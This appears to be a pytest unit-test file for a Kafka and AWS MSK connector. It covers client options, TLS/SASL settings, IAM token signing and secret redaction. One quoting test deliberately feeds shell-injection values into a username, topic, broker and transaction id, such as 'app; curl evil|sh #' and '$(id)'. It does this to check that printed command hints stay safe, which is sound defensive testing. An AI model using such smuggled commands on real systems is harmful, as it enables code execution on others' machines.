"""Kafka without a broker: client options in two dialects, also with AWS, and which upstream it is."""

from __future__ import annotations

import base64
import pickle
import re
import shlex
import tracemalloc
from concurrent.futures import Future
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from unittest.mock import Mock
from urllib.parse import parse_qs, urlsplit

import pytest
from confluent_kafka import KafkaError, KafkaException

from mzplan.connectors.api.probes import fingerprint
from mzplan.connectors.api.queries import ResolvedQuery, resolve
from mzplan.connectors.checks import check_description
from mzplan.connectors.kafka import client, probe
from mzplan.connectors.kafka.options import librdkafka_options, reader_options, writer_options
from mzplan.connectors.kafka.problems import KafkaProblems
from mzplan.connectors.kafka.source import record_options, stream_options
from mzplan.connectors.network import aws
from mzplan.model.diagnostics import Diagnostic, MzplanError
from mzplan.model.words import nearest
from mzplan.schema.description import Description, references_of
from mzplan.secrets.references import Secrets
from tests.support import refusal
from tests.unit.connectors.queries import described, inlined, linked


def source(security: dict[str, Any] | None = None, **body: Any) -> Description:
    cluster = {"type": "kafka", "brokers": ["a:1"], **({"security": security} if security else {})}
    return described("source.orders", "kafka", {**GIVEN, **body}, inlined("k", cluster))


def query(security: dict[str, Any] | None = None, **body: Any) -> ResolvedQuery:
    return resolve(source(security, **body), Secrets(".", {}), ".")


GIVEN = {"connection": "k", "topic": "orders", "format": {"type": "json", "schema": "id BIGINT"}}
AT_1_S = {"startingTimestamp": "1000", "startingOffsetsByTimestampStrategy": "latest"}


@pytest.mark.parametrize(
    ("start", "options"),
    [("earliest", {"startingOffsets": "earliest"}), ("1970-01-01T01:00:01+01:00", AT_1_S)],
)
def test_a_stream_begins_at_start_offsets(start: str, options: dict[str, str]) -> None:
    asked = query(start_offsets=start)
    found = stream_options(asked)
    assert {name: value for name, value in found.items() if name.startswith("starting")} == options
    # A step that is read again has its own offsets. Spark would prefer a time to them.
    assert not options.keys() & record_options(asked).keys()


def missing_topic(asked: ResolvedQuery, topics: list[str] | None) -> Diagnostic:
    """Return the error if a cluster has only these topics. None: it doesn't list them."""
    missing: Future[Any] = Future()
    missing.set_exception(KafkaException(KafkaError(KafkaError.UNKNOWN_TOPIC_OR_PART)))

    def list_topics(timeout: float) -> Any:
        if topics is None:
            raise KafkaException(KafkaError(KafkaError._TIMED_OUT))
        return SimpleNamespace(topics=dict.fromkeys(topics))

    admin = Mock(list_topics=list_topics, poll=lambda _: 0, describe_cluster=lambda **_: Future())
    admin.describe_topics.return_value = {asked.body["topic"]: missing}
    client: Any = SimpleNamespace(admin=admin, problems=[])
    return refusal(lambda: probe.identify(client, asked, False))


NEAR = "did you mean order? Otherwise, "


@pytest.mark.parametrize(("topics", "near"), [(["shop", "order"], NEAR), (None, "")])
def test_a_missing_topic_is_an_error_that_names_a_similar_one(topics: list[str] | None, near: str) -> None:
    create = "create it: kafka-topics.sh --bootstrap-server a:1 --create --topic orders"
    found = missing_topic(query(), topics)
    assert (found.code, found.hint) == ("MZ052", near + create)


@pytest.mark.parametrize(
    ("text", "limit"),
    [
        ("Unable to produce message: Broker: Message size too large", "max.request.size in the options of "),
        ("Broker: Message size too large", "max.message.bytes of topic orders"),
    ],
    ids=["client", "broker"],
)
def test_a_record_over_a_limit_names_that_limit(text: str, limit: str) -> None:
    transaction: Any = SimpleNamespace(name="mzplan.id")
    (found,) = KafkaProblems(query()).of("MSG_SIZE_TOO_LARGE", text, transaction).diagnostics
    assert found.code == "MZ059" and limit in found.summary and limit in found.hint


def test_names_in_a_printed_command_are_quoted() -> None:
    """Somebody else may have chosen the user, the topic, the broker or the id."""
    user = "app; curl evil|sh #"
    security = {"protocol": "SASL_SSL", "sasl": {"mechanism": "PLAIN", "username": user, "password": "p"}}
    asked = query(security, topic="`id`")
    asked.link.body["brokers"][0] = "a:1;id"
    found = [missing_topic(asked, None), *client.not_allowed(asked, "`id`").diagnostics]
    transaction: Any = SimpleNamespace(name="mzplan.$(id)")
    for denied in ("TRANSACTIONAL_ID", "GROUP", "TOPIC", "CLUSTER"):
        problem = KafkaProblems(asked).of(f"{denied}_AUTHORIZATION_FAILED", "", transaction)
        found += problem.diagnostics
    for diagnostic in found:
        hint = diagnostic.hint.removesuffix("; or set delivery: at-least-once.")
        words = shlex.split(hint.rpartition("create it: ")[2])
        names = {"a:1;id", f"User:{user}", "`id`", "mzplan.$(id)"}
        assert words[2] == "a:1;id" and all(w in names or re.fullmatch(r"[\w.-]+", w) for w in words)


def test_a_brokers_topics_take_bounded_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    """A hostile broker lists other topics each time, with long names, and without end."""
    tracemalloc.start()
    for look in range(3):
        assert nearest("orders", (f"{look}{number}".ljust(32_000, "x") for number in range(1000))) is None
    assert tracemalloc.get_traced_memory()[0] < 1 << 20
    tracemalloc.stop()
    taken = iter(range(10**9))
    assert nearest("orders", (f"topic{number}" for number in taken)) is None
    assert next(taken) < 1_000_000
    made: list[dict[str, Any]] = []
    monkeypatch.setattr(client, "AdminClient", made.append)
    client.new_client(query(), {"bootstrap.servers": "a:1"})
    assert made[0]["receive.message.max.bytes"] < 10_000_000


def test_tls_and_sasl_in_both_dialects(tmp_path: Path) -> None:
    plain = reader_options(linked("kafka", brokers=["a:1", "b:2"], options={"request.timeout.ms": 1}), ".")
    assert plain["kafka.bootstrap.servers"] == "a:1,b:2"
    assert plain["kafka.security.protocol"] == "PLAINTEXT"
    assert plain["kafka.request.timeout.ms"] == "1", "the user's options win"
    (tmp_path / "ca.pem").write_text("CA")
    (tmp_path / "me.pem").write_text("ME")
    cluster = linked(
        "kafka",
        brokers=["a:1"],
        security={
            "protocol": "SASL_SSL",
            "sasl": {"mechanism": "SCRAM-SHA-512", "username": 'u"x', "password": 'p\\"; evil="\n'},
            "ssl": {"ca": "ca.pem", "certificate": "me.pem", "key": "KEY", "verify_hostname": False},
        },
        options={"client.id": "me", "fetch.min.bytes": 1, "check.crcs": True},
    )
    java = reader_options(cluster, str(tmp_path))
    login = java.pop("kafka.sasl.jaas.config")
    quoted = r'username="u\"x" password="p\\\"; evil=\"\n";'
    assert f"ScramLoginModule required {quoted}" in login, "a password can't end its quotes"
    assert java.items() >= {
        ("kafka.ssl.truststore.certificates", "CA"),
        ("kafka.ssl.keystore.certificate.chain", "ME"),
        ("kafka.ssl.keystore.key", "KEY"),
        ("kafka.ssl.endpoint.identification.algorithm", ""),
        ("kafka.sasl.mechanism", "SCRAM-SHA-512"),
        ("kafka.fetch.min.bytes", "1"),
        ("kafka.check.crcs", "true"),
    }
    options = librdkafka_options(cluster, str(tmp_path))
    assert options.items() >= {
        ("ssl.ca.pem", "CA"),
        ("ssl.key.pem", "KEY"),
        ("ssl.endpoint.identification.algorithm", "none"),
        ("sasl.password", 'p\\"; evil="\n'),
        ("client.id", "me"),
    }
    assert "fetch.min.bytes" not in options, "librdkafka has another name for it"


def test_secrets_are_in_no_repr() -> None:
    sasl = {"mechanism": "PLAIN", "username": "app", "password": "${env:PW}"}
    description = source({"protocol": "SASL_SSL", "sasl": sasl})
    resolved = resolve(description, Secrets(".", {"PW": "s3cret"}), ".")
    assert resolved.link.body["security"]["sasl"]["password"] == "s3cret"
    assert "s3cret" not in repr(resolved)
    with pytest.raises(MzplanError, match="MZ056"):
        resolve(description, Secrets(".", {}), ".")


# --- aws connections, without AWS: the settings of each client. No secret is shown.

ROLE = "arn:aws:iam::123456789012:role/mzplan"
KEY = {"access_key_id": "AKIA1", "secret_access_key": 'hunter2"\\'}
LOGIN = {"access_key_id": "AKIA1", "secret_access_key": "${env:AWS}", "region": "eu-central-1"}


def test_s3a_settings_are_for_one_bucket() -> None:
    def settings(**body: Any) -> dict[str, str]:
        found = aws.s3a_settings(linked("aws", **body), "lake")
        assert all(name.startswith("fs.s3a.bucket.lake.") for name in found)
        return {name.removeprefix("fs.s3a.bucket.lake."): value for name, value in found.items()}

    assert settings() == {}
    s3a = "org.apache.hadoop.fs.s3a"
    assert settings(**KEY, region="eu-central-1") == {
        "access.key": "AKIA1",
        "secret.key": 'hunter2"\\',
        "aws.credentials.provider": f"{s3a}.SimpleAWSCredentialsProvider",
        "endpoint.region": "eu-central-1",
    }
    temporary = settings(**KEY, session_token="t")
    assert temporary["aws.credentials.provider"] == f"{s3a}.TemporaryAWSCredentialsProvider"
    assert temporary["session.token"] == "t"
    assert settings(**KEY, role_arn=ROLE, region="eu-central-1").items() >= {
        ("aws.credentials.provider", f"{s3a}.auth.AssumedRoleCredentialProvider"),
        ("assumed.role.credentials.provider", f"{s3a}.SimpleAWSCredentialsProvider"),
        ("assumed.role.arn", ROLE),
        ("assumed.role.sts.endpoint", "sts.eu-central-1.amazonaws.com"),
    }
    assert settings(endpoint="http://minio:9000") == {
        "endpoint": "http://minio:9000",
        "path.style.access": "true",
        "endpoint.region": "us-east-1",
        "connection.ssl.enabled": "false",
    }


def description(**login: str) -> Description:
    body = {"type": "kafka", "brokers": ["127.0.0.1:1"], "security": {"protocol": "SASL_SSL"}, "aws": "cloud"}
    cluster = inlined("msk", body, aws=inlined("cloud", {"type": "aws", **login}))
    return described("source.orders", "kafka", GIVEN, cluster)


def test_kafka_with_iam() -> None:
    msk = description(**LOGIN, role_arn=ROLE)
    assert references_of(msk) == {"${env:AWS}"}
    query = resolve(msk, Secrets(".", {"AWS": 'hunter2"\\'}), ".")
    assert "hunter2" not in repr(query)
    for options in (reader_options(query.link, "."), writer_options(query.link, ".", "t")):
        assert options["kafka.security.protocol"] == "SASL_SSL"
        assert options["kafka.sasl.mechanism"] == "AWS_MSK_IAM"
        assert options["kafka.sasl.client.callback.handler.class"].endswith(".IAMClientCallbackHandler")
        assert options["kafka.sasl.jaas.config"] == (
            "software.amazon.msk.auth.iam.IAMLoginModule required "
            f'awsRoleArn="{ROLE}" awsRoleSessionName="mzplan" awsStsRegion="eu-central-1" '
            'awsRoleAccessKeyId="AKIA1" awsRoleSecretAccessKey="hunter2\\"\\\\";'
        )
    options = librdkafka_options(query.link, ".")
    assert (options["security.protocol"], options["sasl.mechanism"]) == ("SASL_SSL", "OAUTHBEARER")
    assert "hunter2" not in repr(options) + str(options) + f"{options['oauth_cb']}"
    assert fingerprint(options) == fingerprint(librdkafka_options(query.link, "."))
    rotated = resolve(msk, Secrets(".", {"AWS": "other"}), ".")
    assert fingerprint(options) != fingerprint(librdkafka_options(rotated.link, "."))


@pytest.mark.parametrize(("body", "text"), [(LOGIN, "role"), ({}, "region")])
def test_aws_connections_that_kafka_cannot_use(body: dict[str, Any], text: str) -> None:
    msk = description(**body)
    (found,) = check_description(msk, Secrets(".", {"AWS": "hunter2"})).diagnostics
    assert found.code == "MZ130" and text in found.summary + found.detail + found.hint
    assert "hunter2" not in repr(found)


def test_missing_credentials_are_reported(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The error comes at once. No client waits for a token."""
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_PROFILE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    monkeypatch.setenv("HOME", str(tmp_path))
    msk = description(region="eu-central-1")
    (found,) = check_description(msk, Secrets(".", {})).diagnostics
    assert found.code == "MZ051" and "no AWS credentials here" in found.detail
    # Spark would use the credentials of the machine.
    options = reader_options(resolve(msk, Secrets(".", {}), ".").link, ".")
    assert options["kafka.sasl.jaas.config"] == "software.amazon.msk.auth.iam.IAMLoginModule required;"


def test_a_token_is_a_signed_request() -> None:
    settings = {**KEY, "session_token": "temporary", "region": "eu-central-1"}
    token = aws.sign_in(settings)
    url = base64.urlsafe_b64decode(token + "=" * (-len(token) % 4)).decode()
    asked = {name: value[0] for name, value in parse_qs(urlsplit(url).query).items()}
    assert urlsplit(url)[:3] == ("https", "kafka.eu-central-1.amazonaws.com", "/")
    assert asked["Action"] == "kafka-cluster:Connect" and asked["X-Amz-Expires"] == "900"
    assert asked["X-Amz-Credential"].endswith("/eu-central-1/kafka-cluster/aws4_request")
    assert asked["X-Amz-Security-Token"] == "temporary" and len(asked["X-Amz-Signature"]) == 64
    when = datetime.strptime(asked["X-Amz-Date"], "%Y%m%dT%H%M%SZ").replace(tzinfo=UTC)
    assert abs(datetime.now(UTC) - when) < timedelta(minutes=1)
    assert "hunter2" not in url


def test_a_task_gets_a_token_and_no_credentials() -> None:
    """Pickling makes a fresh token. librdkafka on the executor needs nothing else."""
    token = aws.librdkafka_options(linked("aws", **KEY, role_arn=ROLE, region="eu-central-1"))["oauth_cb"]
    token.settings.pop("role_arn")  # there is no STS here
    sent = pickle.dumps(token)
    assert b"hunter2" not in sent and b"botocore" not in sent
    text, until = pickle.loads(sent)("")
    assert text.count(".") == 0 and until > datetime.now(UTC).timestamp() + 600
    with pytest.raises(MzplanError, match="MZ130"):
        aws.librdkafka_options(linked("aws", **KEY, region="eu-central-1"))
